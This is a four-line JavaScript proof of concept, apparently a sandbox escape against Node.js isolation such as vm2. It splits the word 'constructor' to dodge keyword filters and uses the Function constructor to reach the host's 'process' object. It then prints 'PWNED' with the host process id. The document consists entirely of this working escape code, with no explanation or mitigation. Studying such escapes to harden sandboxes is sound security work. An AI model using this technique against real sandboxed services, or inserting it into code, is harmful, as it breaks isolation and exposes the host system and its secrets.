const w = ['con', 'structor'].join('');
class A { constructor(f) { this.pid = f[w]('return process')().pid; } }
const make = (c, ...a) => Reflect.construct(c, a);
console.log('PWNED', make(A, (x) => x).pid);
